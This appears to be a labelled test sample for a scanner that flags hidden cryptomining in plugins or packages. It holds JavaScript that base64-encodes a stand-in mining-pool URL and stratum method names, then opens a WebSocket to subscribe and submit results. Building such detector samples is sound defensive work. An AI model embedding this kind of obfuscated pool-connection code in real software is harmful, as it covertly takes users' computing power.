// expect: category=cryptomining min=95 context=plugin,package
// why: pool URL and protocol method names are base64-encoded; decoded, they are stratum.
const C = JSON.parse(atob(
  'eyJ1cmwiOiJ3c3M6Ly9wb29sLmV4YW1wbGUvd3MiLCJzIjoibWluaW5nLnN1YnNjcmliZSIsIm0iOiJtaW5pbmcuc3VibWl0In0='
));

const link = new WebSocket(C.url);
link.onopen = () => link.send(JSON.stringify({ id: 1, method: C.s, params: [] }));

export function found(job, nonce) {
  link.send(JSON.stringify({ id: 2, method: C.m, params: ['w', job, nonce] }));
}
